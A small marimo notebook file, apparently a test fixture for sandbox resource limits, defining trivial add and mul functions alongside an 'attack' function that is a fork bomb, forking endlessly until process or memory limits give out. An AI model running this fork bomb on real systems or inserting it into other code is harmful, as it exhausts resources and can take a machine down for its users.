import marimo

__generated_with = "0.25.2"
app = marimo.App()


@app.function
def add(a, b):
    return a + b


@app.function
def mul(a, b):
    return a * b


@app.function
def attack(n):
    """Forks until the pids limit, in every child too, forever (each copy of the
    interpreter also costs memory: the pids or the memory limit may give first)."""
    import os
    while True:
        try:
            os.fork()
        except OSError:
            pass


if __name__ == "__main__":
    app.run()
